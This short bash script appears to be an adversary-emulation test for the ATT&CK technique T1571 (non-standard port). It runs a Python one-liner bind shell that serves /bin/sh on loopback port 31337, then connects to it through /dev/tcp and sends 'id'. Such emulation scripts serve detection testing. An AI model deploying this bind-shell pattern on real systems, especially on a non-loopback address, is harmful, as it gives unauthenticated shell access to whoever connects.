#!/bin/bash
# technique: T1571 Non-Standard Port
# tactic: command-and-control
# user: www-data
# needs: python3
# does: listens on a high port and gives a shell to who connects
# harmless: it listens on the loopback address, and only the script connects

timeout 4 python3 -c 'import socket,subprocess;l=socket.create_server(("127.0.0.1",31337));c,_=l.accept();subprocess.call(["/bin/sh"],stdin=c,stdout=c,stderr=c)' &
sleep 1
exec 3<>/dev/tcp/127.0.0.1/31337
printf 'id\nexit\n' >&3
cat <&3 >/dev/null
exec 3>&-
wait
true
